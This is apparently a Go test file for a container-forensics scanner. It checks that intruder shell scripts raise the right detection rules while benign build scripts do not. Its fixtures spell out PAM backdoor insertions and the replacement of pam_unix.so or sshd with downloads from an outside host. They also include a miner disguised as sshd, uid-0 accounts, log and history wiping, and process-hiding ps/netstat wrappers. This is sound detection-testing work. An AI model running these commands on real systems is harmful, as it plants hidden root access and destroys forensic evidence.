package shell

import (
	"strings"
	"testing"

	"github.com/strata-forensics/strata/audit"
	"github.com/strata-forensics/strata/forensics"
)

// Our own variants of what an intruder's script does once in, several spellings each, and the
// clean shapes the same commands take in build and maintenance scripts.
func TestTradecraft(t *testing.T) {
	tests := []struct {
		name, path, text string
		want             string // rule/severity of the file's most severe finding of these rules; "" for none
		cat              audit.Category
	}{
		// PAM stack edits
		{name: "awk inserts a module ahead of the first auth line", path: "/tmp/m.sh",
			text: "#!/bin/sh\nawk '/^auth/ && !x {print \"auth sufficient /usr/lib/.cache/pam_cache.so\"; x=1} {print}' /etc/pam.d/common-auth > /tmp/ca\nmv /tmp/ca /etc/pam.d/common-auth\n",
			want: "STRATA-PA-002/critical", cat: audit.CategoryPersistence},
		{name: "sed inserts through a variable in a loop", path: "/root/i.sh",
			text: "#!/bin/bash\nMOD=pam_sysauth.so\nLINE=\"auth sufficient $MOD\"\nfor s in sshd login su sudo; do\n  sed -i \"1i $LINE\" /etc/pam.d/$s\ndone\n",
			want: "STRATA-PA-002/critical", cat: audit.CategoryPersistence},
		{name: "awk handed the line with -v", path: "/tmp/k.sh",
			text: "#!/bin/sh\nF=/etc/pam.d/common-auth\nL='auth   sufficient   /usr/local/lib/pam_k.so'\nawk -v l=\"$L\" '!d && $1 == \"auth\" {print l; d=1} {print}' \"$F\" > \"$F.new\" && mv \"$F.new\" \"$F\"\n",
			want: "STRATA-PA-002/critical"},
		{name: "sed -z with escaped newline", path: "/root/i2.sh",
			text: "#!/bin/sh\nfor f in /etc/pam.d/sshd /etc/pam.d/login; do sed -z -i 's/\\nauth/\\nauth\\toptional\\tpam_kbd.so\\nauth/' $f; done\n",
			want: "STRATA-PA-002/critical"},
		{name: "echo appends to pam.conf", path: "/tmp/.p.sh",
			text: "#!/bin/sh\necho 'sshd auth sufficient /dev/shm/.p.so' >> /etc/pam.conf\n", want: "STRATA-PA-002/critical"},
		{name: "heredoc rewrites a stack with pam_permit first", path: "/opt/x.sh",
			text: "#!/bin/sh\ncat > /etc/pam.d/su <<EOF\nauth sufficient pam_permit.so\n@include common-auth\nEOF\n", want: "STRATA-PA-002/critical"},
		{name: "perl in place", path: "/opt/y.sh",
			text: "#!/bin/sh\nperl -0pi -e 's/^(auth)/auth [success=done default=ignore] \\/var\\/lib\\/.m\\/pam_m.so\\n$1/m' /etc/pam.d/common-auth\n", want: "STRATA-PA-002/critical"},
		{name: "2FA module added", path: "/usr/local/sbin/enable-2fa",
			text: "#!/bin/sh\nsed -i '1i auth required pam_google_authenticator.so nullok' /etc/pam.d/sshd\n", want: ""},
		{name: "pam-auth-update style edit of a known module", path: "/usr/sbin/pam-setup",
			text: "#!/bin/sh\nsed -i 's/^auth.*pam_unix.so.*/auth [success=1 default=ignore] pam_unix.so nullok/' /etc/pam.d/common-auth\n", want: ""},
		// authentication library or program replaced
		{name: "pam_unix.so found and replaced by a download", path: "/tmp/l.sh",
			text: "#!/bin/bash\npam=$(find / -name pam_unix.so 2>/dev/null | head -1)\ncp $pam $pam.bak\nwget -q \"http://203.0.113.9/m/$v\" -O ${pam}\n",
			want: "STRATA-PA-003/critical"},
		{name: "curl onto sshd", path: "/root/u.sh",
			text: "#!/bin/sh\ncurl -fsSL -o /usr/sbin/sshd https://203.0.113.9/sshd && chmod 755 /usr/sbin/sshd\n", want: "STRATA-PA-003/critical"},
		{name: "module compiled and moved into the module directory", path: "/root/p/install.sh",
			text: "#!/bin/sh\ngcc -fPIC -shared -o pam_user.so pam_user.c\nmv pam_user.so /lib/x86_64-linux-gnu/security/\n", want: "STRATA-PA-003/critical"},
		{name: "su built over the system's", path: "/root/b.sh",
			text: "#!/bin/sh\ncc -o /bin/su su.c -lcrypt\n", want: "STRATA-PA-003/critical"},
		{name: "backup put back", path: "/usr/local/sbin/restore",
			text: "#!/bin/sh\ncp /lib/x86_64-linux-gnu/security/pam_unix.so.bak /lib/x86_64-linux-gnu/security/pam_unix.so\n", want: ""},
		// masquerading
		{name: "miner moved onto sshd", path: "/root/install.sh",
			text: "#!/bin/sh\nwget -q https://203.0.113.9/xmrig.tar.gz\ntar xf xmrig.tar.gz\nmv xmrig-6.21.0/xmrig /usr/sbin/sshd\n(crontab -l; echo '@reboot /usr/sbin/sshd') | crontab -\n",
			want: "STRATA-MQ-002/high", cat: audit.CategoryMiner},
		{name: "program copied as a kernel thread", path: "/tmp/d.sh",
			text: "#!/bin/sh\ncp ./x /usr/bin/kworker\nchmod +x /usr/bin/kworker\n", want: "STRATA-MQ-002/high", cat: audit.CategoryMalware},
		{name: "download named after a kernel thread", path: "/tmp/d2.sh",
			text: "#!/bin/sh\nwget -O /var/tmp/kthreadd http://203.0.113.9/b\n", want: "STRATA-MQ-002/high"},
		{name: "alias written into bashrc", path: "/home/u/i.sh",
			text: "#!/bin/sh\nmkdir -p ~/.bin\necho \"alias ls='~/.bin/ls'\" >> ~/.bashrc\n", want: "STRATA-MQ-003/high", cat: audit.CategoryPersistence},
		{name: "alias of sudo to a temporary place", path: "/tmp/i2.sh",
			text: "#!/bin/sh\nprintf '%s\\n' 'alias sudo=\"/tmp/.s/sudo\"' >> /root/.bashrc\n", want: "STRATA-MQ-003/high"},
		{name: "function written into bashrc", path: "/tmp/f.sh",
			text: "#!/bin/sh\ncat >> /root/.bashrc <<'EOF'\nps() {\n  /usr/lib/.p/ps \"$@\" | grep -v kworkerd\n}\nEOF\n", want: "STRATA-MQ-003/high"},
		{name: "function of the system's own", path: "/usr/local/bin/setup-ls",
			text: "#!/bin/sh\ncat >> /etc/skel/.bashrc <<'EOF'\nls() {\n  command ls --color=auto \"$@\"\n}\nEOF\n", want: ""},
		{name: "alias to a system tool", path: "/usr/local/bin/setup-shell",
			text: "#!/bin/sh\necho \"alias ls='ls --color=auto'\" >> /etc/skel/.bashrc\n", want: ""},
		// logs, history, accounts
		{name: "password, rival kill, wipe, history", path: "/tmp/.ssh/p.sh",
			text: "#!/bin/sh\necho -e \"n3wpass\\nn3wpass\" | passwd root\npkill -9 -f minerd\nrm -rf /var/log/wtmp /var/log/lastlog /var/log/secure\nhistory -c\nnohup sh /tmp/.ssh/b >/dev/null 2>&1 &\n",
			want: "STRATA-AF-001/high", cat: audit.CategoryTamper},
		{name: "chpasswd and truncation", path: "/opt/c.sh",
			text: "#!/bin/bash\nU=root\necho \"$U:Spr1ng!\" | chpasswd\n: > /var/log/auth.log\ncat /dev/null > /var/log/wtmp\nunset HISTFILE\n", want: "STRATA-AF-001/high"},
		{name: "uid 0 account appended", path: "/home/u/.bin/ls",
			text: "#!/bin/sh\necho 'sysop:$1$x$abc:0:0::/root:/bin/bash' >> /etc/passwd\n", want: "STRATA-AF-003/high", cat: audit.CategoryPersistence},
		{name: "useradd -o -u 0", path: "/tmp/a.sh",
			text: "#!/bin/sh\nuseradd -o -u 0 -g 0 -M -d /root -s /bin/bash toor\necho toor:pw | chpasswd\n", want: "STRATA-AF-002/high"},
		{name: "sed makes a user root", path: "/tmp/b.sh",
			text: "#!/bin/sh\nsed -i 's/^deploy:x:1000:1000:/deploy:x:0:0:/' /etc/passwd\n", want: "STRATA-AF-003/high"},
		{name: "root account with a rival kill and a wipe", path: "/tmp/c.sh",
			text: "#!/bin/sh\nuseradd -o -u 0 -g 0 admin2\nshred -u ~/.bash_history\nln -sf /dev/null ~/.bash_history\n", want: "STRATA-AF-001/high"},
		{name: "image clean-up empties the log directory", path: "/usr/local/bin/cleanup.sh",
			text: "#!/bin/sh\napt-get clean\nrm -rf /var/lib/apt/lists/* /var/log/*\nfind /var/log -type f -exec truncate -s 0 {} \\;\n", want: "STRATA-AF-001/info"},
		{name: "packer clean-up truncates login records", path: "/tmp/script/cleanup.sh",
			text: "#!/bin/sh\ntruncate -s 0 /var/log/wtmp /var/log/lastlog\nrm -f /root/.bash_history\nunset HISTFILE\n", want: "STRATA-AF-001/low"},
		{name: "root password and history clean-up in one step", path: "/usr/local/bin/build-base",
			text: "#!/bin/sh\necho 'root:changeme' | chpasswd\nrm -f /root/.bash_history\n", want: "STRATA-AF-002/low"},
		{name: "test image root password", path: "/usr/local/bin/init-test",
			text: "#!/bin/sh\necho 'root:root' | chpasswd\nexec /usr/sbin/sshd -D\n", want: "STRATA-AF-002/low"},
		{name: "log rotation", path: "/etc/cron.daily/rotate",
			text: "#!/bin/sh\nsavelog -c 7 /var/log/app.log >/dev/null\nsystemctl reload rsyslog\n", want: ""},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			fs := scanFile(tt.path, tt.text)
			var top, want *audit.Finding
			for i, f := range fs {
				switch {
				case strings.HasPrefix(f.Rule, "STRATA-PA-"), strings.HasPrefix(f.Rule, "STRATA-MQ-"), strings.HasPrefix(f.Rule, "STRATA-AF-"):
					if top == nil || f.Severity > top.Severity {
						top = &fs[i]
					}
					if f.Rule+"/"+f.Severity.String() == tt.want && want == nil {
						want = &fs[i]
					}
				}
			}
			if tt.want == "" {
				if top != nil {
					t.Fatalf("want none\n%s", dump(fs))
				}
				return
			}
			if want == nil || top.Severity > want.Severity {
				t.Fatalf("want %s as the most severe\n%s", tt.want, dump(fs))
			}
			if tt.cat != "" && want.Category != tt.cat {
				t.Errorf("category %s, want %s\n%s", want.Category, tt.cat, dump(fs))
			}
			if len(want.Techniques) == 0 {
				t.Errorf("no technique\n%s", dump(fs))
			}
		})
	}
}

func TestTrojanedSystemProgram(t *testing.T) {
	tests := []struct {
		name, path, text string
		want             bool
	}{
		{"ps hides by grep -v", "/bin/ps", "#!/bin/sh\n/bin/.ps \"$@\" | grep -v -E 'kswapd0|\\.x11'\n", true},
		{"netstat through sed", "/usr/bin/netstat", "#!/bin/bash\nexec /usr/lib/.net/netstat \"$@\" | sed '/:4444/d'\n", true},
		{"ls renamed, awk filter", "/bin/ls", "#!/bin/sh\nls.orig \"$@\"\n/bin/ls.orig \"$@\" | awk '!/\\.hidden/'\n", true},
		{"top from a temporary place", "/usr/bin/top", "#!/bin/sh\nexec /dev/shm/top \"$@\"\n", true},
		{"ps through variables, blanks before #!", "/bin/ps", "  #!/bin/sh\nreal=/bin/.ps\nword=sshd\n$real $@ > /tmp/.o\n/bin/grep -v \"$word\" /tmp/.o\n", true},
		{"who without #!, the copy in a hidden directory", "/usr/bin/who", "W=/usr/share/.x/who\n${W} \"$@\" | egrep -v 'pts/9'\n", true},
		{"ps renamed, found through PATH", "/bin/ps", "#! /bin/bash\nps.original $@ | grep -v \"crypto\\|scan\"\n", true},
		{"top hidden beside it, found through PATH", "/usr/bin/top", "#!/bin/sh\n.top \"$@\"\n", true},
		{"which wrapper", "/usr/bin/which", "#!/bin/sh\nset -ef\nexec /usr/bin/which.debianutils \"$@\"\n", false},
		{"ps in a tool directory", "/opt/tools/ps", "#!/bin/sh\n/bin/.ps \"$@\" | grep -v x\n", false},
		{"ps ahead of the system's in PATH, filtered", "/usr/local/bin/ps", "#!/bin/bash\n/bin/ps \"$@\" | grep -v -E 'kdevtmpfsi|xmr'\n", true},
		{"netstat ahead of the system's, sed", "/usr/local/sbin/netstat", "#!/bin/sh\n/usr/bin/netstat \"$@\" | sed '/:4444/d'\n", true},
		{"find wrapper of the system's", "/usr/local/bin/find", "#!/bin/sh\nexec /usr/bin/find \"$@\"\n", false},
		{"ps in a user's ~/.local/bin, filtered", "/home/dev/.local/bin/ps", "#!/bin/sh\n/bin/ps \"$@\" | grep -v '\\.x11-unix/\\.k'\n", true},
		{"netstat in root's ~/bin, awk", "/root/bin/netstat", "#!/bin/bash\n/usr/bin/netstat $* | awk '!/:1337/'\n", true},
		{"ls colour wrapper in ~/bin", "/home/dev/bin/ls", "#!/bin/sh\nexec /bin/ls --color=auto \"$@\"\n", false},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			fs := New().Content(audit.File{Layer: 1, Entry: &forensics.Entry{Path: tt.path, Size: int64(len(tt.text)), Mode: 0o755}}, []byte(tt.text))
			found := false
			for _, f := range fs {
				if f.Rule == RuleTrojanScript {
					found = true
					if f.Severity != audit.High || f.Category != audit.CategoryTamper || !f.Is(audit.CategoryMalware) {
						t.Errorf("finding %s %s %v", f.Severity, f.Category, f.Labels)
					}
				}
			}
			if found != tt.want {
				t.Fatalf("found %v, want %v\n%s", found, tt.want, dump(fs))
			}
		})
	}
}

// A hidden helper the script writes and aliases: what the helper does is found at the script.
func TestWrittenHelperRead(t *testing.T) {
	text := "#!/bin/bash\nmkdir -p $HOME/.bin\ncat > $HOME/.bin/ls <<'EOF'\n#!/bin/bash\necho 'svc:x:0:0::/root:/bin/bash' >> /etc/passwd\n/bin/ls \"$@\"\nEOF\nchmod +x $HOME/.bin/ls\necho 'alias ls=\"$HOME/.bin/ls\"' >> $HOME/.bashrc\n"
	fs := scanFile("/home/u/install.sh", text)
	got := rules(fs)
	for _, r := range []string{RuleRootAccount, RuleShadowAlias} {
		if !strings.Contains(strings.Join(got, " "), r) {
			t.Errorf("want %s\n%s", r, dump(fs))
		}
	}
	// a download to a path the script computes, in a script looking for pam_unix.so
	fs = scanFile("/tmp/l2.sh", "#!/bin/sh\nfor l in $(locate -r 'security/pam_unix.so$'); do t=$l; done\ncp \"$t\" /var/tmp/.b\nwget -q \"$H/$M\" -O \"$t\"\n")
	if !strings.Contains(strings.Join(rules(fs), " "), RuleAuthReplace) {
		t.Errorf("want %s\n%s", RuleAuthReplace, dump(fs))
	}
}
